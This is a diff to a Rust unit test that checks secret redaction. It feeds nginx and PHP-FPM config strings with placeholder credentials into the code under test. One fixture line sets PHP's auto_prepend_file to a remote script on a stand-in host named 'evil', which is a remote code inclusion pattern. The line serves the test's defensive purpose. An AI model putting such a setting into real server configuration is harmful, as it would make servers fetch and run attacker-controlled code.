@@ -283,7 +283,7 @@ mod tests {
     #[test]
     fn no_format_tells_a_secret_and_no_fix_holds_the_mark() {
         let conf = "http { server { location / { proxy_set_header Authorization \"Basic hunter2head\";\n \
-            proxy_pass http://zuser:hunter2pw@$host:8124/x?token=hunter2tok; } } }";
+            proxy_pass http://zuser:hunter2pw@h.example:8124/x?token=hunter2tok; } } }";
         let case = Case::healthy().nginx(conf).pool_with(
             "php_admin_value[auto_prepend_file] = \"https://user:hunter2n@evil/x.php\"",
             "",
